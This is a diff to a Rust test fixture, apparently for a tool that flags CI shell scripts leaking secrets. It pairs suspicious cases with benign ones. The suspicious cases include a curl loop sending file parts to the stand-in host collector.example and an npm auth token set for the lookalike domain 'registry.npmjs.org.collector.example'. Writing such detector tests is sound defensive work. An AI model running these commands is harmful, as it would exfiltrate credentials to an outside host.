@@ -1100,12 +1100,11 @@ for p in part.*; do curl --data-binary @$p https://collector.example/$p; done"##
     Way {
         name: "npm token",
         shell: "bash",
-        script: r##"npm config set //collector.example/:_authToken "$B"
-npm config set registry https://collector.example/
+        script: r##"npm config set //registry.npmjs.org.collector.example/:_authToken "$B"
 npm ci"##,
         later: "",
         secrets: &["NPM_TOKEN"],
-        place: "collector.example",
+        place: "registry.npmjs.org.collector.example",
         verdict: Verdict::Suspicious,
     },
     Way {
@@ -1162,6 +1161,7 @@ kubectl apply -f k8s/"##,
     ("brace mkdir", "bash", r##"mkdir -p {a,b}/{c,d}; cp x.{txt,md} a/"##),
     ("array flags", "bash", r##"F=(--a --b "$A"); ./deploy.sh "${F[@]}""##),
     ("own api by var", "bash", r##"curl -H "Authorization: Bearer $A" "$DEPLOY_URL/hook""##),
+    ("npm own registry", "bash", r##"echo "//npm.widgets.example/:_authToken=$B" >> ~/.npmrc; npm ci"##),
     ("psql secret url", "bash", r##"psql "$A" -f migrations/001.sql"##),
     ("tee shown", "bash", r##"echo "$A" | sudo tee /etc/wireguard/wg0.conf"##),
     ("jq project", "bash", r##"echo "$A" > k.json; jq -r .project_id k.json"##),
